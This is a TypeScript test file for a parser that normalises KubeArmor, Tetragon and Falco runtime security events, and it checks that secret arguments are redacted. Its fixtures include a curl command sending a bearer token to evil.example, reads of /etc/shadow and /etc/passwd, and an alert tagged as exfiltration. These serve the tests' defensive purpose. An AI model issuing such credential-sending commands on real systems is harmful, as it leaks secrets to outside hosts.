import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { changeRecord } from '../../../test/support/change-record.ts'
import { asLines, readContent } from '../../../test/support/line-file.ts'
import type { RuntimeEvent } from '../../call/runtime-event.ts'
import type { JsonDialect, JsonPlace } from '../files/json-format.ts'
import { falcoDialect } from './falco.ts'
import { kubearmorDialect } from './kubearmor.ts'
import { ownerOfPod } from './pod-workload.ts'
import { tetragonDialect } from './tetragon.ts'

const armor = (fields: object) => ({
  Timestamp: 1_700_000_000,
  UpdatedTime: '2023-11-14T22:13:20.250000Z',
  ClusterName: 'prod',
  HostName: 'node-1',
  NamespaceName: 'shop',
  PodName: 'orders-6f5c4df7b4-q8zbc',
  Labels: 'app=orders,tier=api',
  ContainerName: 'orders',
  ProcessName: '/usr/bin/node',
  ParentProcessName: '/usr/bin/runc',
  Type: 'ContainerLog',
  Source: '/usr/bin/node server.js --password=hunter2',
  Result: 'Passed',
  ...fields,
})
const orders = {
  cluster: 'prod',
  namespace: 'shop',
  kind: 'Deployment',
  name: 'orders',
  pod: 'orders-6f5c4df7b4-q8zbc',
}

const process = (more: object = {}) => ({
  binary: '/usr/bin/curl',
  arguments: '-H "Authorization: Bearer hunter2" https://evil.example',
  uid: 0,
  pod: {
    namespace: 'shop',
    name: 'orders-6f5c4df7b4-q8zbc',
    workload: 'orders',
    workload_kind: 'Deployment',
    container: { name: 'orders', image: { name: 'shop/orders:1' } },
    pod_labels: { app: 'orders' },
  },
  ...more,
})
const cilium = (kind: string, body: object) => ({
  [kind]: { process: process(), parent: { binary: '/bin/sh', arguments: '-c hunter2' }, ...body },
  node_name: 'node-1',
  cluster_name: 'prod',
  time: '2023-11-14T22:13:20.250Z',
})
const alert = (fields: object, more: object = {}) => ({
  uuid: 'a-1',
  hostname: 'node-1',
  output: 'curl -H "Authorization: Bearer hunter2" was run',
  priority: 'Warning',
  rule: 'Contact outside',
  source: 'syscall',
  tags: ['network', 'mitre_exfiltration'],
  time: '2023-11-14T22:13:20.250000000Z',
  output_fields: {
    'k8s.ns.name': 'shop',
    'k8s.pod.name': 'orders-6f5c4df7b4-q8zbc',
    'container.id': 'abc',
    'container.name': 'orders',
    'proc.exepath': '/usr/bin/curl',
    'proc.cmdline': 'curl -H hunter2',
    ...fields,
  },
  ...more,
})

const time = Date.UTC(2023, 10, 14, 22, 13, 20, 250)
const rows: readonly (readonly [what: string, record: object, expected: object])[] = [
  [
    'a process that KubeArmor logs',
    armor({
      Operation: 'Process',
      Resource: '/bin/sh -c "export TOKEN=hunter2"',
      Data: 'syscall=SYS_EXECVE',
    }),
    {
      time,
      source: 'kubearmor',
      action: 'process',
      object: '/bin/sh',
      outcome: 'allowed',
      workload: { ...orders, labels: { app: 'orders', tier: 'api' } },
      extra: { operation: 'process', program: '/usr/bin/node', syscall: 'SYS_EXECVE', node: 'node-1' },
    },
  ],
  [
    'a file that KubeArmor blocks, in its envelope',
    {
      kind: 'File Alert',
      event: armor({
        Operation: 'File',
        Resource: '/etc/shadow',
        Action: 'Block',
        Result: 'Permission denied',
        PolicyName: 'no-shadow',
        Severity: '5',
      }),
    },
    {
      action: 'file',
      object: '/etc/shadow',
      outcome: 'blocked',
      policy: 'no-shadow',
      extra: { severity: '5' },
    },
  ],
  [
    'a file that KubeArmor audits',
    armor({ Operation: 'File', Resource: '/etc/passwd', Action: 'Audit', PolicyName: 'watch' }),
    { outcome: 'audited' },
  ],
  [
    'a file that was not there',
    armor({ Operation: 'File', Resource: '/nope', Result: 'No such file or directory' }),
    { outcome: 'failed' },
  ],
  [
    'a connection by its kprobe',
    armor({
      Operation: 'Network',
      Resource: 'remoteip=203.0.113.9 port=443 protocol=TCP',
      Data: 'kprobe=tcp_connect domain=AF_INET',
    }),
    { action: 'network', object: '203.0.113.9:443', extra: { protocol: 'tcp', direction: 'egress' } },
  ],
  [
    'a connection by its system call',
    armor({
      Operation: 'Network',
      Resource: 'sa_family=AF_INET sin_port=53 sin_addr=10.0.0.10',
      Data: 'syscall=SYS_CONNECT fd=10',
    }),
    { object: '10.0.0.10:53', extra: { direction: 'egress' } },
  ],
  [
    'a connection that was accepted',
    armor({
      Operation: 'Network',
      Resource: 'remoteip=fd00::7 port=5000 protocol=TCP',
      Data: 'kprobe=tcp_accept',
    }),
    { object: '[fd00::7]:5000', extra: { direction: 'ingress' } },
  ],
  [
    'a system call on a host',
    {
      ...armor({
        Operation: 'Syscall',
        Data: 'syscall=SYS_SETUID userid=0',
        Action: 'Block',
        Result: 'Operation not permitted',
      }),
      NamespaceName: undefined,
      PodName: undefined,
      ContainerName: undefined,
      Labels: undefined,
    },
    {
      action: 'process',
      object: '/usr/bin/node',
      outcome: 'blocked',
      workload: { name: 'node-1', kind: 'Node' },
    },
  ],
  [
    'an owner that KubeArmor names',
    armor({
      Operation: 'Process',
      Resource: '/bin/ls',
      Owner: { Ref: 'CronJob', Name: 'nightly', Namespace: 'shop' },
    }),
    { workload: { name: 'nightly', kind: 'CronJob' } },
  ],
  [
    'an execution that Tetragon saw',
    cilium('process_exec', {}),
    {
      time,
      source: 'tetragon',
      action: 'process',
      object: '/usr/bin/curl',
      outcome: 'allowed',
      workload: { ...orders, labels: { app: 'orders' } },
      extra: { operation: 'exec', parent: '/bin/sh', image: 'shop/orders:1' },
    },
  ],
  [
    'an exit',
    cilium('process_exit', { signal: 'SIGKILL', status: 9 }),
    { action: 'process', extra: { operation: 'exit', signal: 'SIGKILL', status: 9 } },
  ],
  [
    'a connection through a kprobe',
    cilium('process_kprobe', {
      function_name: 'tcp_connect',
      policy_name: 'egress',
      action: 'KPROBE_ACTION_POST',
      args: [
        {
          sock_arg: {
            family: 'AF_INET',
            protocol: 'IPPROTO_TCP',
            saddr: '10.0.0.5',
            sport: 4000,
            daddr: '203.0.113.9',
            dport: 443,
          },
        },
      ],
    }),
    {
      action: 'network',
      object: '203.0.113.9:443',
      outcome: 'audited',
      policy: 'egress',
      extra: { protocol: 'tcp', direction: 'egress', reaction: 'post' },
    },
  ],
  [
    'an accepted connection',
    cilium('process_kprobe', {
      function_name: 'inet_csk_accept',
      args: [{ sock_arg: { saddr: '198.51.100.4', sport: 5000, daddr: '10.0.0.5', dport: 8080 } }],
    }),
    { object: '198.51.100.4:5000', extra: { direction: 'ingress' } },
  ],
  [
    'a write that was killed, without what was written',
    cilium('process_kprobe', {
      function_name: 'security_file_permission',
      policy_name: 'files',
      action: 'KPROBE_ACTION_SIGKILL',
      args: [{ file_arg: { path: '/etc/passwd' } }, { bytes_arg: 'aHVudGVyMg==' }, { string_arg: 'hunter2' }],
    }),
    { action: 'file', object: '/etc/passwd', outcome: 'blocked', policy: 'files' },
  ],
  [
    'a tracepoint',
    cilium('process_tracepoint', {
      subsys: 'syscalls',
      event: 'sys_enter_openat',
      args: [{ string_arg: 'hunter2' }],
    }),
    { action: 'file', extra: { function: 'syscalls/sys_enter_openat' } },
  ],
  [
    'a security hook on the machine itself',
    {
      process_lsm: {
        process: { binary: '/usr/bin/gdb' },
        function_name: 'bprm_check_security',
        args: [{ linux_binprm_arg: { path: '/usr/bin/id' } }],
      },
      node_name: 'node-1',
      time: '2023-11-14T22:13:20Z',
    },
    { action: 'process', object: '/usr/bin/id', workload: { name: 'node-1', kind: 'Node' } },
  ],
  [
    'a connection that Falco alerts on',
    alert({ 'evt.type': 'connect', 'fd.name': '10.0.0.5:4000->203.0.113.9:443', 'fd.l4proto': 'tcp' }),
    {
      id: 'a-1',
      time,
      source: 'falco',
      action: 'network',
      object: '203.0.113.9:443',
      outcome: 'audited',
      policy: 'Contact outside',
      workload: { namespace: 'shop', name: 'orders', kind: 'Deployment' },
      extra: {
        program: '/usr/bin/curl',
        severity: 'warning',
        direction: 'egress',
        tags: 'network,mitre_exfiltration',
      },
    },
  ],
  [
    'a peer with fields of its own',
    alert({ 'evt.type': 'connect', 'fd.rip': '203.0.113.9', 'fd.rport': 8443 }),
    { object: '203.0.113.9:8443' },
  ],
  [
    'a file that Falco alerts on',
    alert({ 'evt.type': 'openat', 'fd.name': '/etc/shadow', 'evt.res': 'EACCES' }),
    { action: 'file', object: '/etc/shadow', outcome: 'blocked' },
  ],
  [
    'a shell, by the time of the event',
    { ...alert({ 'evt.type': 'execve', 'evt.time': Number(1_700_000_000_250_000_000n) }), time: undefined },
    { time: 1_700_000_000_250, action: 'process', object: '/usr/bin/curl' },
  ],
  [
    'an alert that names no call',
    alert({ 'fd.name': '/etc/hosts' }),
    { action: 'file', object: '/etc/hosts' },
  ],
  [
    'an alert of a host',
    alert({
      'evt.type': 'execve',
      'container.id': 'host',
      'container.name': 'host',
      'k8s.pod.name': null,
      'k8s.ns.name': null,
    }),
    { workload: { name: 'node-1', kind: 'Node' } },
  ],
  [
    'a deployment that Falco names',
    alert({ 'evt.type': 'execve', 'k8s.deployment.name': 'orders-v2' }),
    { workload: { name: 'orders-v2', kind: 'Deployment' } },
  ],
]

describe('runtime security events', () => {
  it.each(rows)('reads %s, and no arguments or contents', async (_, record, expected) => {
    const { events, rejections } = await readContent(asLines(record))
    expect(rejections).toEqual([])
    expect(events).toHaveLength(1)
    expect(events[0]).toMatchObject({ type: 'runtime', ...expected })
    expect(JSON.stringify(events)).not.toMatch(/hunter2|aHVudGVyMg/)
  })
  it('read all of the table', () => expect(rows).toHaveLength(23))

  it('keeps a record without a time beside the one before it', async () => {
    const untimed = {
      ...armor({ Operation: 'Process', Resource: '/bin/ls' }),
      Timestamp: undefined,
      UpdatedTime: undefined,
    }
    const { events } = await readContent(
      asLines(untimed, armor({ Operation: 'Process', Resource: '/bin/sh' }), untimed),
    )
    expect(events.map(event => event.time)).toEqual([0, time, time])
  })

  it('says what it cannot read, and reads on', async () => {
    const broken = { process_exec: { nothing: 1 }, time: '2023-11-14T22:13:20Z' }
    const { events, rejections } = await readContent(
      `${asLines(cilium('process_exec', {}), broken)}{"process_exec": {\n`,
    )
    expect(events).toHaveLength(1)
    expect(rejections.map(({ position, reason }) => [position, reason])).toEqual([
      [2, '`process_exec.process` is missing.'],
      [3, 'The line is not JSON.'],
    ])
  })
})

describe('the owner of a pod', () => {
  const pods: readonly (readonly [pod: string, labels: Record<string, string>, owner: object])[] = [
    ['orders-6f5c4df7b4-q8zbc', {}, { name: 'orders', kind: 'Deployment' }],
    ['vault-0', {}, { name: 'vault', kind: 'StatefulSet' }],
    ['agent-x7k2p', { 'pod-template-generation': '1' }, { name: 'agent', kind: 'DaemonSet' }],
    ['agent-x7k2p', {}, { name: 'agent' }],
    ['migrate-28312-x7k2p', { 'job-name': 'migrate-28312' }, { name: 'migrate-28312', kind: 'Job' }],
    ['orders-api', {}, { name: 'orders-api' }],
  ]
  it.each(pods)('of %s %j is %j', (pod, labels, owner) => expect(ownerOfPod(pod, labels)).toEqual(owner))
  it('ran all of the table', () => expect(pods).toHaveLength(6))
})

describe('whatever a record holds', () => {
  const dialects: readonly (readonly [JsonDialect, readonly object[]])[] = [
    [kubearmorDialect, rows.map(row => row[1]).filter(record => kubearmorDialect.is(record as never))],
    [tetragonDialect, rows.map(row => row[1]).filter(record => tetragonDialect.is(record as never))],
    [falcoDialect, rows.map(row => row[1]).filter(record => falcoDialect.is(record as never))],
  ]
  const place: JsonPlace = { id: 'x', source: 's', label: 'l', host: 'h', fallbackTime: 7 }
  it.each(dialects)('%o neither throws nor gives more than it may', (dialect, samples) => {
    expect(samples.length).toBeGreaterThan(5)
    fc.assert(
      fc.property(
        fc.constantFrom(...samples),
        fc.array(fc.tuple(fc.nat(), fc.jsonValue()), { maxLength: 6 }),
        (sample, changes) => {
          const record = structuredClone(sample) as Record<string, unknown>
          for (const [nth, value] of changes) changeRecord(record, nth, value)
          dialect.timeOf(record)
          if (!dialect.is(record)) return
          const reading = dialect.read(record, place)
          if (typeof reading === 'string') return
          for (const event of reading as RuntimeEvent[]) {
            expect(Number.isFinite(event.time)).toBe(true)
            expect(['process', 'file', 'network']).toContain(event.action)
            expect(event.object?.length ?? 0).toBeLessThanOrEqual(600)
          }
        },
      ),
      { numRuns: 300 },
    )
  })
})
